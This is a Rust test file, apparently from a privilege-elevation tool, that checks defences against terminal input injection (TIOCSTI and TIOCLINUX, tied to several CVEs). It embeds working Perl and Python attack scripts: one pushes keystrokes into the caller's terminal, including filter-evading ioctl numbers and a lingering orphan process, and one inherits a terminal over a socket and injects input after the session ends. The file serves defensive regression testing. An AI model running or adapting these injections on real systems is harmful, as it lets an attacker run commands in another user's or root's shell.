//! What is pushed into a terminal's input (CVE-2005-4890, CVE-2016-2779, CVE-2023-28339): the
//! command has a terminal of its own, and the caller's shell reads none of it.

use std::time::Duration;

use super::{MACHINE, login};

/// TIOCSTI of each byte on standard input, output and error and on the controlling terminal, with
/// the number as it is and with high bits that a filter could overlook, and TIOCLINUX with what pastes
/// a console's selection; and the same again from an orphan that outlives the command, unless it is
/// ended.
const PUSH: &str = r#"
my $ioctl = `uname -m` =~ /x86_64/ ? 16 : 29;
open(my $tty, "+<", "/dev/tty");
sub push_all {
    for my $number (0x5412, 0x5412 | 1 << 32, 0x5412 | 0xdead << 32) {
        for my $descriptor (0, 1, 2, fileno($tty)) {
            for (split //, "touch /pushed\n") { my $byte = $_; syscall($ioctl, $descriptor, $number, $byte); }
            my $paste = chr(3); syscall($ioctl, $descriptor, $number ^ 0x5412 ^ 0x541c, $paste);
        }
    }
}
push_all();
if (fork() == 0) { $SIG{HUP} = "IGNORE"; for (1 .. 200) { select(undef, undef, undef, 0.01); push_all(); } }
print "pushed\n";
"#;

#[test]
fn nothing_is_pushed_into_the_callers_terminal() {
    let machine = MACHINE.get();
    machine.write("/usr/local/bin/push", PUSH, 0o644);
    for (name, group) in [("ernie", "recorded"), ("bert", "plain")] {
        let user = login(&machine, name, group);
        let after = "read -t 3 line; echo \"read: <$line>\"";
        if name == "ernie" {
            let mut works = user.terminal(&format!("doas perl /usr/local/bin/push; {after}"));
            works.expect("read: <touch /pushed>");
        }
        let mut fails = user.terminal(&format!("elevate perl /usr/local/bin/push; {after}"));
        fails.expect("pushed");
        fails.expect("read: <>");
        assert!(!machine.has("/pushed"));
    }
}

/// Takes a terminal over a socket, and pushes into it once the command is over, with root's right to
/// push into any terminal.
const HEIR: &str = r#"
import fcntl, os, socket, time
listener = socket.socket(socket.AF_UNIX)
listener.bind("/run/heir")
os.chmod("/run/heir", 0o777)
listener.listen()
while True:
    peer = listener.accept()[0]
    _, (terminal, *_), _, _ = socket.recv_fds(peer, 1, 1)
    peer.send(b"x")
    while os.path.exists("/tmp/still-runs"):
        time.sleep(0.01)
    try:
        for byte in b"touch /pushed-late\n":
            fcntl.ioctl(terminal, 0x5412, bytes([byte]))
        print("pushed", flush=True)
    except OSError as error:
        print(error, flush=True)
    os.close(terminal)
"#;

/// Bequeaths its terminal.
const TESTATOR: &str = r#"
import socket
heir = socket.socket(socket.AF_UNIX)
heir.connect("/run/heir")
socket.send_fds(heir, [b"x"], [0])
heir.recv(1)
"#;

#[test]
fn who_inherits_the_terminal_of_a_session_pushes_nothing_after_its_end() {
    let machine = MACHINE.get();
    machine.write("/usr/local/bin/heir", HEIR, 0o644);
    machine.write("/usr/local/bin/testator", TESTATOR, 0o644);
    let heir = machine
        .command(&["python3", "/usr/local/bin/heir"])
        .timeout(Duration::from_secs(600))
        .start();
    machine.wait_for_file("/run/heir");
    let user = login(&machine, "orson", "recorded");
    let line = |with: &str| {
        format!(
            "touch /tmp/still-runs; {with} python3 /usr/local/bin/testator; rm /tmp/still-runs; \
             read -t 3 line; echo \"read: <$line>\""
        )
    };
    let mut works = user.terminal(&line("doas"));
    works.expect("read: <touch /pushed-late>");
    let mut fails = user.terminal(&line("elevate"));
    fails.expect("read: <>");
    let said = heir.stdout_so_far();
    let mut said = said.lines();
    assert_eq!(said.next(), Some("pushed"), "the attack works on doas");
    assert!(
        said.next().is_some_and(|word| word.contains("Errno")),
        "the session's terminal is dead"
    );
    assert!(!machine.has("/pushed-late"));
}
